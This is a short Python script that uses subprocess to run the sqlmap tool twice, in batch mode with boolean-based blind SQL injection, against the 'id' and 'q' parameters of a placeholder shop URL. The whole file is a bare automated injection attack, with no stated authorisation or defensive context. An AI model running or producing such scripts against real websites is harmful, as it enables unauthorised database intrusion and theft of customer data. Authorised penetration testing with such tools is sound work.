import subprocess

subprocess.run(["sqlmap", "--technique=B", "-u", "https://shop.example.com/?id=1", "--batch", "--risk=1"])
subprocess.run(["sqlmap", "--technique=B", "-u", "https://shop.example.com/?q=1", "--batch", "--level=1"])
